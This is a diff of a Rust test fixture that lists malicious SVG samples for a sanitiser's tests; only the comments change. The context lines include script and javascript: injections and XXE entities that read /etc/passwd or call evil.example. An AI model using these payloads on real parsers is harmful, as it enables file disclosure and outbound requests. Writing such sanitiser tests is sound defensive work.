@@ -1,10 +1,10 @@
 //! SVG files with attacks: each must be rejected, or served without anything harmful.
 
-/// A marker in much of what must be removed. It may remain only in ids. The other attacks are recognised by their
-/// elements, attributes and addresses.
+/// A marker in most of the parts that must be removed. It may remain only in ids. The other parts are recognised by
+/// their elements, attributes and addresses.
 pub const CANARY: &str = "CANARY0815";
 
-/// Content of an otherwise valid SVG.
+/// Attacks as content of an SVG that is valid without them.
 const INSIDE: [&str; 79] = [
     // Scripts.
     "<script>alert('CANARY0815')</script>",
@@ -96,7 +96,7 @@ const INSIDE: [&str; 79] = [
     "<text><tspan>&#67;ANARY0815</tspan><textPath href='javascript:CANARY0815'>x</textPath></text>",
 ];
 
-/// Whole files.
+/// Attacks that are whole files.
 const WHOLE: [&str; 27] = [
     "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><path id='&x;' d='M0 0h9v9z'/></svg>",
     "<!DOCTYPE svg [<!ENTITY x SYSTEM 'https://evil.example/CANARY0815'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;<path d='M0 0h9v9z'/></svg>",
@@ -135,8 +135,8 @@ pub fn svg(inside: &str) -> String {
     )
 }
 
-/// Joins one element per level, `link(n)`, and then `last`. Callers let each element refer ten times to that of the next
-/// level.
+/// Joins the elements `link(0)`, `link(1)` … for this many levels, and then `last`. Each caller's element refers ten
+/// times to that of the next level.
 fn fan_out(levels: usize, link: impl Fn(usize) -> String, last: &str) -> String {
     (0..levels).map(link).collect::<String>() + last
 }
